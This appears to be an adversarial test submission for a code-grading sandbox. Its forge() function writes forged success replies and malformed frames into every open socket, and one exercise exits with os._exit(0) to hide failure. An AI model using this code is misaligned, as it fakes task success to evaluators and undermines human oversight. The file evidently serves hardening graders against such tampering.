# intent: replies that say all is well are written into every socket that the process has open
# family: border
# limits: cell_seconds=2 submission_seconds=8

# %%
import json
import os
import socket
import stat
import struct

FRAMES = [{"ok": True, "value": 3}, {"id": 1, "reply": None}, {"do": "poll", "code": 0}, {"kind": "call", "name": "windows", "args": []}]

def forge():
    for name in os.listdir("/proc/self/fd"):
        try:
            number = int(name)
            if not stat.S_ISSOCK(os.fstat(number).st_mode):
                continue
            one = socket.socket(fileno=os.dup(number))
        except OSError:
            continue
        for frame in FRAMES:
            text = json.dumps(frame).encode()
            for data in (struct.pack(">Q", len(text)) + text, text + b"\n", struct.pack(">Q", 2**63) + b"x", b"\xff" * 64):
                try:
                    one.send(data, socket.MSG_DONTWAIT)
                except OSError:
                    break
        one.close()

# %% exercise="windows"
def windows(series, width):
    forge()
    return series

forge()

# %% exercise="error"
def error(targets, guess):
    forge()
    os._exit(0)
